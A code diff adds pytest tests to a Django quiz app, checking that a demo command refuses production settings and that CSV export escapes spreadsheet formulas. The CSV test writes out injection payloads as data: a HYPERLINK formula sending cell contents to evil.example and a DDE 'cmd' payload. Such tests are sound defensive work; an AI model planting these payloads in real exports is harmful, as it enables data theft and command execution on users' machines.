@@ -1,5 +1,11 @@
 """The question bank: loading the fixtures, check_bank, export_bank and the demo command."""
 
+import csv
+import io
+import os
+import sqlite3
+import subprocess
+import sys
 from io import StringIO
 from pathlib import Path
 
@@ -87,3 +93,66 @@ def test_demo_sets_up_the_school_and_can_run_twice(db):
     client = Client()
     client.force_login(teacher)
     assert client.get(reverse("set_builder", args=[assignments.first().quiz_set.pk])).status_code == 200
+
+
+def test_demo_refuses_production_settings(db, settings):
+    settings.DEMO_ALLOWED = False
+    with pytest.raises(CommandError, match="Refused: these are production settings"):
+        run("demo")
+    assert not User.objects.exists()
+
+
+def test_demo_runs_under_production_settings_only_when_told_to(db, settings):
+    settings.DEMO_ALLOWED = False
+    err = StringIO()
+    call_command("demo", "--allow-production", stdout=StringIO(), stderr=err)
+    assert "change the demo users' password (october1917) at once" in err.getvalue()
+    assert User.objects.get(username="admin").is_superuser
+
+
+def test_production_settings_refuse_the_demo(tmp_path):
+    """The real production settings, in a process of their own: nothing is written to the database."""
+    database = tmp_path / "production.sqlite3"
+    result = subprocess.run(
+        [sys.executable, "manage.py", "demo"],
+        cwd=Path(__file__).resolve().parents[2],
+        env={
+            **os.environ,
+            "DJANGO_SETTINGS_MODULE": "october_quiz.settings.prod",
+            "SECRET_KEY": "a-real-random-secret-value-for-this-test-1917",
+            "DATABASE_URL": f"sqlite:///{database}",
+        },
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert result.returncode != 0
+    assert "Refused: these are production settings" in result.stderr
+    assert "--allow-production" in result.stderr
+    if database.exists():  # opened, perhaps, but nothing migrated or written
+        with sqlite3.connect(database) as connection:
+            assert connection.execute("select count(*) from sqlite_master").fetchone() == (0,)
+
+
+# -- export_bank --format csv is formula-safe ---------------------------------------------------------------------
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS)
+def test_export_bank_csv_shows_teachers_formulas_as_text(db, start):
+    """A teacher's question whose text starts like a formula: no cell of the CSV may start one."""
+    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    question = factories.QuestionFactory(
+        short_text=True, with_parts=False, prompt=attack, explanation=f" {start}cmd|' /C calc'!A0"
+    )
+    factories.AcceptedAnswerFactory(question=question, text=f"{start}1+1")
+    factories.CitationFactory(question=question, quote=f"{start}SUM(1+1)")
+    text = run("export_bank", "--format", "csv")
+    assert text.startswith("\ufeffid,")
+    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
+    assert row["prompt"] == "'" + attack
+    assert row["answer"] == f"'{start}1+1"
+    assert row["evidence"] == f"'{start}SUM(1+1)"
+    assert row["explanation"] == f"' {start}cmd|' /C calc'!A0"
+    assert not any(cell.lstrip(" ").startswith(tuple(FORMULA_STARTS)) for cell in row.values())
